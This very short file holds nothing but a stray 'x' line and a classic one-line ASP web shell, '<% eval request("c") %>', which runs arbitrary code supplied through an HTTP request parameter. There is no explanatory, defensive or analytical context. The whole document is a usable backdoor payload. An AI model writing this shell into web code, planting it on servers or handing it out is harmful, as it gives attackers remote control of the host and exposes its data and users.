x
<% eval request("c") %>